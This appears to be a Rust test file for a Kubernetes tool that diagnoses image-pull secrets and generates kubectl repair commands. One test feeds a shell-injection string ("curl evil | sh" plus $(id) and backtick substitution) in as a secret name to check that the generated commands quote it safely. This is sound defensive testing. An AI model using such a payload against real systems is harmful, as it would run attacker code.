//! One target at length.

use super::*;
use crate::cluster::{Owner, ServiceAccount};
use crate::outlook::explain::{
    Answer, BrokenReference, Dependent, ExplainError, ExplainedImage, Explanation, Target, explain,
};

const TOKEN: Login<'_> = ("ci-bot", "p1");
const OTHER: Login<'_> = ("ci-two", "p2");
const WEB: &str = "ghcr.io/acme/web:1";

impl World {
    pub(super) fn explain(
        &self,
        namespace: Option<&str>,
        target: &str,
        image: Option<&str>,
    ) -> Result<Explanation, ExplainError> {
        let registries = self.registries();
        let workloads = workloads(&self.inventory);
        let mut book = Book::new(identifier(), registries.clone());
        book.sync(&self.inventory, &needed_images(&workloads));
        let inputs = Inputs {
            inventory: &self.inventory,
            book: &book,
            workloads: &workloads,
            failing: &BTreeMap::new(),
            ledger: &self.ledger,
            config: &self.config,
            registries: &registries,
            hosts: &[],
            schedule_lag: Duration::ZERO,
            moment: super::NOW,
            waiting: &[],
        };
        explain(&inputs, namespace, &Target::parse(target, image).unwrap(), now())
    }

    fn images(&self, target: &str, image: Option<&str>) -> (Vec<ExplainedImage>, Vec<BrokenReference>) {
        match self.explain(Some("a"), target, image).expect("the target is there").answer {
            Answer::Pulls { images, broken_references, .. } => (images, broken_references),
            Answer::Secret { .. } => panic!("no Secret was asked about"),
        }
    }

    fn image(&self, target: &str) -> ExplainedImage {
        let (mut images, _) = self.images(target, None);
        assert_eq!(images.len(), 1);
        images.pop().unwrap()
    }

    fn dependents(&self, secret: &str) -> Vec<(String, Outlook, Outlook)> {
        match self.explain(Some("a"), secret, None).unwrap().answer {
            Answer::Secret { dependents, .. } => {
                let row = |one: Dependent| (one.workload_name, one.outlook, one.outlook_without);
                dependents.into_iter().map(row).collect()
            }
            Answer::Pulls { .. } => panic!("a Secret was asked about"),
        }
    }

    fn account(&mut self, name: &str, secrets: &[&str]) {
        let at = ObjectRef::new("a", name);
        let pull_secrets = secrets.iter().map(|&name| name.into()).collect();
        self.inventory.service_accounts.insert(at.clone(), Arc::new(ServiceAccount { at, pull_secrets }));
    }

    fn change_pod(&mut self, name: &str, change: impl FnOnce(&mut Pod)) {
        let pod = self.inventory.pods.get_mut(&ObjectRef::new("a", name)).unwrap();
        change(Arc::make_mut(pod));
    }
}

fn order(image: &ExplainedImage) -> Vec<(usize, &str, &str, &str, &str)> {
    let credentials = image.credentials.iter();
    credentials.map(|one| (one.order, &*one.secret_name, &*one.username, one.source, one.access)).collect()
}

#[test]
fn a_dead_first_credential_and_a_working_second_are_both_told() {
    let mut world = World::cluster();
    world.secret("a", "old", &[(GHCR, TOKEN.0, TOKEN.1)]);
    world.secret("a", "new", &[(GHCR, OTHER.0, OTHER.1)]);
    world.pod("a", "web", &["old", "new"], &[WEB]);
    world.accepts(OTHER);
    world.access(Some(OTHER), "acme/web", true);
    world.rejects(TOKEN);
    let image = world.image("pod/web");
    assert_eq!(order(&image), [(1, "old", "ci-bot", "pod", "denied"), (2, "new", "ci-two", "pod", "granted")]);
    assert_eq!((image.outlook, image.anonymous), (Outlook::Ok, "not_tried"));
    assert_eq!(image.findings[0].kind, FindingKind::LaterCredentialOnly);
    assert!(image.fix.is_empty() && image.reason.contains("credential 2 (new)"), "{}", image.reason);
    assert_eq!(world.explain(None, "po/web", None).unwrap().severity(), Some(Severity::Critical));
    assert_eq!(world.dependents("secret/new"), [("web".to_owned(), Outlook::Ok, Outlook::Blocked)]);
    assert_eq!(world.dependents("secret/old"), [("web".to_owned(), Outlook::Ok, Outlook::Ok)]);
}

#[test]
fn a_dead_credential_comes_with_the_command_that_renews_it() {
    let mut world = World::cluster();
    world.secret("a", "pull", &[(GHCR, TOKEN.0, TOKEN.1)]);
    world.pod("a", "web", &["pull"], &[WEB]);
    world.rejects(TOKEN);
    let image = world.image("pod/web");
    assert_eq!((image.outlook, image.credentials[0].status), (Outlook::Blocked, Status::Rejected));
    assert!(image.fix[0].starts_with("# NEW_TOKEN"), "{:?}", image.fix);
    let command = "kubectl -n a create secret docker-registry pull --docker-server=ghcr.io --docker-username=ci-bot \
                   --docker-password=\"$NEW_TOKEN\" --dry-run=client -o yaml | kubectl apply -f -";
    assert_eq!(image.fix[1], command);
}

#[test]
fn two_entries_of_one_key_are_two_credentials_in_random_order() {
    let mut world = World::cluster();
    world.secret("a", "pull", &[(GHCR, TOKEN.0, TOKEN.1), ("https://ghcr.io/v1/", OTHER.0, OTHER.1)]);
    world.pod("a", "web", &["pull"], &[WEB]);
    let image = world.image("pod/web");
    let mut users: Vec<&str> = image.credentials.iter().map(|one| &*one.username).collect();
    users.sort_unstable();
    assert_eq!(users, ["ci-bot", "ci-two"]);
    assert!(image.credentials.iter().all(|one| one.detail.contains("random order")));
}

#[test]
fn an_absent_secret_is_broken_in_a_cluster_and_proves_nothing_in_files() {
    let mut world = World::cluster();
    world.pod("a", "web", &["gone"], &[WEB]);
    world.access(None, "acme/web", false);
    let (images, broken) = world.images("pod/web", None);
    assert_eq!(broken, [BrokenReference { secret_name: "gone".into(), reason: "not_found" }]);
    assert_eq!((images[0].outlook, images[0].anonymous), (Outlook::Uncovered, "denied"));
    assert!(images[0].reason.contains("the Secret gone that it names does not exist"), "{}", images[0].reason);
    // It is made under the name that is named already, so nothing has to be changed but that.
    assert!(images[0].fix.last().unwrap().contains("create secret docker-registry gone "), "{:?}", images[0].fix);
    world.inventory.origin = Origin::Files;
    let (images, broken) = world.images("pod/web", None);
    assert!(broken.is_empty());
    assert_eq!(images[0].outlook, Outlook::Unverified);
    assert_eq!(images[0].fix, ["kubectl -n a get secret gone"]);
}

#[test]
fn wrong_types_and_malformed_secrets_are_told() {
    let mut world = World::cluster();
    world.raw_secret("a", "opaque", "Opaque", "{}");
    world.raw_secret("a", "bad", DOCKERCONFIGJSON_TYPE, r#"{"auths":{"ghcr.io":{"auth":"pants"}}}"#);
    world.pod("a", "one", &["opaque"], &[WEB]);
    world.pod("a", "two", &["bad"], &[WEB]);
    world.access(None, "acme/web", false);
    let (images, broken) = world.images("pod/one", None);
    assert_eq!(broken, [BrokenReference { secret_name: "opaque".into(), reason: "wrong_type" }]);
    assert!(images[0].fix[1].starts_with("kubectl -n a delete secret opaque && "), "{:?}", images[0].fix);
    let (images, broken) = world.images("pod/two", None);
    assert_eq!(broken, [BrokenReference { secret_name: "bad".into(), reason: "malformed" }]);
    assert_eq!((images[0].outlook, images[0].credentials.len()), (Outlook::Blocked, 0));
    assert_eq!(world.dependents("secret/bad"), [("two".to_owned(), Outlook::Blocked, Outlook::Blocked)]);
}

#[test]
fn a_service_account_is_explained_for_an_image() {
    let mut world = World::cluster();
    world.secret("a", "pull", &[(GHCR, TOKEN.0, TOKEN.1)]);
    world.account("builder", &["pull"]);
    world.account("default", &["first"]);
    let (images, _) = world.images("sa/builder", Some(WEB));
    assert_eq!(order(&images[0]), [(1, "pull", "ci-bot", "service_account", "unverified")]);
    world.access(None, "acme/web", false);
    let (images, _) = world.images("sa/default", Some("ghcr.io/acme/web"));
    assert_eq!(images[0].outlook, Outlook::Uncovered);
    // `first` is named and not there.
    assert!(images[0].fix[1].contains("create secret docker-registry first "), "{:?}", images[0].fix);
    world.account("default", &["other-registry"]);
    world.secret("a", "other-registry", &[("quay.io", "u", "p")]);
    world.accepts(TOKEN);
    let (images, _) = world.images("sa/default", Some("ghcr.io/acme/web"));
    // A patch replaces the list, so what was on it is on it again.
    let patch = "kubectl -n a patch serviceaccount default --type=merge -p \
                 '{\"imagePullSecrets\":[{\"name\":\"other-registry\"},{\"name\":\"pull\"}]}'";
    assert_eq!(images[0].fix[0], patch);
}

#[test]
fn a_workload_gets_a_patch_that_keeps_its_list() {
    let mut world = World::cluster();
    world.secret("a", "quay", &[("quay.io", "u", "p")]);
    for (kind, path) in [("Deployment", "template"), ("AutoscalingRunnerSet", "template"), ("CronJob", "jobTemplate")] {
        world.pod("a", "x-1", &["quay"], &[WEB]);
        world.change_pod("x-1", |pod| {
            pod.owner = Some(Owner { api_version: "v1".into(), kind: kind.into(), name: "x".into() });
        });
        world.access(None, "acme/web", false);
        let image = world.image(&format!("{kind}/x"));
        let patch = image.fix.last().unwrap();
        assert!(patch.starts_with(&format!("kubectl -n a patch {} x --type=merge", kind.to_lowercase())), "{patch}");
        assert!(patch.contains(&format!("{{\"spec\":{{\"{path}\"")), "{patch}");
        assert!(patch.contains(r#"[{"name":"quay"},{"name":"registry-pull"}]"#), "{patch}");
        // The pod is explained too, and it is its owner that is to be changed.
        assert_eq!(world.image("pod/x-1").fix.last(), Some(patch));
    }
}

#[test]
fn a_new_secret_is_not_written_over_another() {
    let mut world = World::cluster();
    world.secret("a", "registry-pull", &[("quay.io", "u", "p")]);
    world.pod("a", "web", &[], &[WEB]);
    world.access(None, "acme/web", false);
    let image = world.image("pod/web");
    assert!(image.fix[1].contains("create secret docker-registry registry-pull-2 "), "{:?}", image.fix);
}

#[test]
fn credentials_of_the_node_come_last() {
    let mut world = World::cluster();
    world.config.scope.node_credentials = vec!["ghcr.io/acme".into()];
    world.secret("a", "pull", &[(GHCR, TOKEN.0, TOKEN.1)]);
    world.pod("a", "web", &["pull"], &[WEB]);
    let image = world.image("pod/web");
    assert_eq!(image.outlook, Outlook::Ok);
    assert_eq!(order(&image)[1], (2, "", "", "node", "unverified"));
    assert_eq!(image.credentials[1].registry, "ghcr.io/acme");
}

#[test]
fn an_image_is_found_however_it_is_written() {
    let mut world = World::cluster();
    world.pod("a", "one", &[], &["nginx", "ghcr.io/acme/web:1"]);
    world.pod("a", "two", &[], &["docker.io/library/nginx:latest"]);
    world.pod("b", "three", &[], &["nginx:1"]);
    let (images, _) = world.images("image/nginx:latest", None);
    let names: Vec<&str> = images.iter().map(|image| &*image.workload_name).collect();
    assert_eq!(names, ["one", "two"]);
}

#[test]
fn what_is_not_there_is_told_with_what_is() {
    let mut world = World::cluster();
    world.pod("a", "web", &[], &[WEB]);
    world.pod("b", "web", &[], &[WEB]);
    let error = |namespace, target| world.explain(namespace, target, None).unwrap_err().to_string();
    assert_eq!(error(None, "pod/web"), "pod/web is in several namespaces: a, b; say which one with -n");
    assert_eq!(error(Some("a"), "pod/wbe"), "there is no pod/wbe in namespace a; did you mean pod/web?");
    assert_eq!(error(Some("a"), "secret/x"), "there is no secret/x in namespace a, nor anything else of that sort");
    assert_eq!(error(Some("c"), "sts/x"), "there is no statefulset/x in namespace c, nor anything else of that sort");
    assert_eq!(
        error(Some("a"), "image/quay.io/x"),
        "nothing pulls image/quay.io/x in namespace a; there is image/ghcr.io/acme/web:1"
    );
}

#[test]
fn a_name_cannot_run_anything_in_a_pasted_command() {
    let mut world = World::cluster();
    let evil = "x'; curl evil | sh; '$(id)`id`\n";
    world.secret("a", evil, &[(GHCR, evil, TOKEN.1)]);
    world.pod("a", "web", &[evil], &[WEB]);
    world.pod("a", "open", &["quay", evil], &["quay.io/x/y"]);
    world.config.registries.push(crate::config::RegistryConfig::plain("quay.io", crate::config::IssuerChoice::None));
    world.rejects(TOKEN);
    let quoted = format!("'{}'", evil.replace('\'', r"'\''"));
    for image in [world.image("pod/web"), world.image("pod/open")] {
        for command in &image.fix {
            let rest = command.replace(&quoted, "").replace("\"$NEW_TOKEN\"", "");
            assert!(!rest.contains("curl") && !rest.contains('`'), "{command}");
        }
    }
}

#[test]
fn a_broken_secret_has_no_dependents_in_other_namespaces() {
    let mut world = World::cluster();
    world.raw_secret("b", "bad", "kubernetes.io/dockerconfigjson", "{");
    world.pod("a", "stranger", &["bad"], &[WEB]);
    world.pod("b", "own", &["bad"], &[WEB]);
    let Answer::Secret { dependents, .. } = world.explain(Some("b"), "secret/bad", None).unwrap().answer else {
        panic!("a Secret was asked for");
    };
    assert_eq!(dependents.iter().map(|one| &*one.workload_name).collect::<Vec<_>>(), ["own"]);
}
